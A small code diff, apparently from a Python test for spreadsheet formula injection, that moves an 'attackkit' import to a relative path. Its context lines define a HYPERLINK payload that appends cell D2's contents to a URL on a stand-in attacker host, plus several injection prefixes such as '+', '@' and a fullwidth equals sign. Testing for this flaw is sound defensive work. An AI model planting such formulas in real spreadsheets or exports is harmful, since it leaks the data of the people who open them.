@@ -6,8 +6,9 @@ import copy
 import csv
 import stat
 
-from attackkit import World, snapshot
 from openpyxl import load_workbook
+
+from .attackkit import World, snapshot
 
 PAYLOAD = '=HYPERLINK("//e.vil/?"&D2,"Rosa")'
 OTHERS = ("+1+2", "-1+2", "@SUM(A1)", "\tTAB", "\rCR", "\uff1d1+2")
